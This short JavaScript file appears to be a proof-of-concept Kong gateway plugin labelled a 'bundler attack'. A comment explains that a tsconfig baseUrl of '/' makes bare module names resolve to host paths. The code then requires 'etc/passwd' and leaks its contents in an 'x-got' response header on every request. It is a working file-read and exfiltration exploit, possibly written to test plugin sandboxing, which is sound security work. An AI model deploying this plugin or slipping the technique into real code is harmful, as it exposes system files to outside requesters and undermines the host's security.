// Bundler attack: a tsconfig.json baseUrl of / that makes bare names host paths.
const stolen = require('etc/passwd');
module.exports = {
  Plugin: class {
    async access(kong) {
      await kong.response.setHeader('x-got', JSON.stringify(String(stolen).slice(0, 200)));
    }
  },
  Version: '1.0.0',
};
